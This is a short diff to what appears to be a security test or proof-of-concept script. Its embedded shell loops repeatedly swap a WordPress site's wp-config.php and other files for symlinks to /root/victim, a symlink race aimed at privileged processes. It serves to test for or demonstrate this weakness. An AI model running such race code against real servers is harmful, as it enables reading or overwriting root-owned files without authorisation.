@@ -227,8 +227,9 @@ for name in {" ".join(FILES)}; do mv $name .moved-$(basename $name); ln -s /root
 for name in {" ".join(FOLDERS)}; do mv $name .away-$(basename $name); ln -s /root/victim.d $name; done
 """
 SWAP = f"""
-cd {ROOT}
+cd {ROOT}; cp wp-config.php .config
 while :; do
+  ln -sfn /root/victim .l; mv -T .l wp-config.php; cp .config .c; mv -T .c wp-config.php
   for name in {" ".join(FILES)}; do
     ln -sfn /root/victim .l; mv -T .l $name; printf '<?php\nDB_PASSWORD=x\n' > .f; chmod 666 .f; mv -T .f $name
   done
